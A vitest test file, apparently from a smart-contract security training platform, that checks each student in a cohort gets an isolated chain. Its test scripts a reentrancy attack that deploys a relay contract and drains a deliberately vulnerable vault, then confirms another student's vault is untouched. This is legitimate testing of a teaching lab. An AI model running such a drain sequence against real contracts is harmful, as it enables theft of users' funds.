import { beforeAll, describe, expect, it } from "vitest";
import { ether, rpc, shopContracts, Wallet } from "../support/chain";
import { createCohort, Student } from "../support/cohort";
import { isSolved } from "../support/instance";

const vaultHolds = async (vault: string) => BigInt(await rpc<string>("eth_getBalance", [vault, "latest"]));

/** Each student's shop has a chain of its own: one student's drained vault is not another's. */
describe("cohort mode: every student's shop runs its own chain", () => {
  let ada: Student;
  let bo: Student;
  beforeAll(async () => {
    const code = await createCohort({ name: "Chains" });
    ada = await new Student("Ada").join(code);
    bo = await new Student("Bo").join(code);
  });

  it("Ada's reentrancy empties Ada's vault and solves it for Ada only", async () => {
    ada.use();
    const { vault, sample } = await shopContracts();
    const student = Wallet.random();
    await student.fund();
    const relay = sample("Relay");
    const relayAddress = await student.deploy(relay.bytecode);
    const half = ether / 2n;
    await student.send({ to: relayAddress, value: half, data: relay.fn.relay!.encodeInput({ target: vault.address, data: vault.fn.deposit!.encodeInput(), value: half }) });
    const again = vault.fn.withdraw!.encodeInput(half);
    await student.send({ to: relayAddress, data: relay.fn.setHook!.encodeInput({ target: vault.address, data: again, runs: 30n }) });
    await student.send({ to: relayAddress, data: relay.fn.relay!.encodeInput({ target: vault.address, data: again, value: 0n }) });
    expect(await vaultHolds(vault.address)).toBe(0n);
    expect(await isSolved("web3WalletChallenge")).toBe(true);
    const adaBlocks = await rpc<string>("eth_blockNumber");

    bo.use();
    expect(await vaultHolds(vault.address)).toBe(10n * ether);
    expect(await isSolved("web3WalletChallenge")).toBe(false);
    expect(await rpc<string>("eth_blockNumber")).toBe("0x0");
    expect(await student.balance()).toBe(0n);
    expect(adaBlocks).not.toBe("0x0");
  });
});
